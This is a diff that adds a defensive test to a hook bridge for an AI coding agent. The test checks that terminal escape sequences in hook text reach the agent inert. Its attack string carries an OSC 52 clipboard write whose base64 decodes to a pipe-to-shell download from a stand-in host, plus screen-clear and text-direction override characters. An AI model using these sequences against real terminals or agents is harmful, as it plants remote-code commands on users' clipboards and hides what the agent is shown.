@@ -110,6 +110,24 @@ describe('sprout-agent hooks run', () => {
     assert.equal(rig.calls('stuck', '_Stop'), 2);
   });
 
+  it('a hook\'s text reaches the agent inert: no escape sequence, in the JSON or decoded from it', async () => {
+    // OSC 52 (write the clipboard), a screen clear, an 8-bit CSI and a direction override.
+    const attack = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u009b1A\u202e';
+    rig = await openBridgeRig([{ name: 'nag', config: { hooks: { _Stop: { kind: 'object', text: `not ${attack}done {n}` } } } }]);
+    assert.equal((await rig.install('claude')).code, 0);
+    const ws = rig.workspace;
+    const stop = (active: boolean) => ({ event: 'Stop', payload: claudePayload('Stop', 's5', ws, { stop_hook_active: active }) });
+    const work = { event: 'PostToolUse', payload: claudePayload('PostToolUse', 's5', ws) };
+    // Three objections, then the verdict once the budget is spent, which quotes the hook in plain text.
+    const answers = await rig.runAgent([stop(false), work, stop(true), work, stop(true), work, stop(true)]);
+    // eslint-disable-next-line no-control-regex
+    const obeyed = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+    for (const answer of answers) assert.doesNotMatch(`${answer.stdout}${answer.stderr}`, obeyed, 'nothing raw on the agent\'s streams');
+    const shown = [0, 2, 4, 6].map((i) => block(answers[i]?.stdout ?? ''));
+    for (const text of shown.flatMap((s) => [s.reason ?? '', s.systemMessage ?? ''])) assert.doesNotMatch(text, obeyed, 'nor in the text the agent decodes and shows');
+    assert.match(shown[3]?.systemMessage ?? '', /nag: not .*done 4/, 'the hook\'s words are kept');
+  });
+
   it('bad input fails the hook, never blocks the agent: exit 1 with what to fix', async () => {
     rig = await openBridgeRig([{ name: 'gate', config: { hooks: { _Stop: { kind: 'empty' } } } }]);
     assert.equal((await rig.install('claude')).code, 0);
